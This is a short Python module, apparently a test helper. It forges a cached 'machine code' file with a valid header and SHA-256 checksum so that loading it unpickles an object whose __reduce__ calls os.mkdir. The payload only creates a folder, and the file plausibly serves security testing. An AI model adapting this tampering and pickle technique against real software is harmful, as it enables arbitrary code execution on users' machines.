"""Files of machine code that run a program when they are unpickled."""

import hashlib
import os
import pickle


class Attack:
    """A pickle that creates a folder when it is read."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (str(self.path),)


def attack(code, victim):
    """Replace a file of machine code by one of the right form, stamp and checksum whose pickle runs a program."""
    body = code.read_bytes()[40:]
    body = body[: body.index(b"\n") + 1] + pickle.dumps(Attack(victim))
    code.write_bytes(b"SWVPCODE" + hashlib.sha256(body).digest() + body)
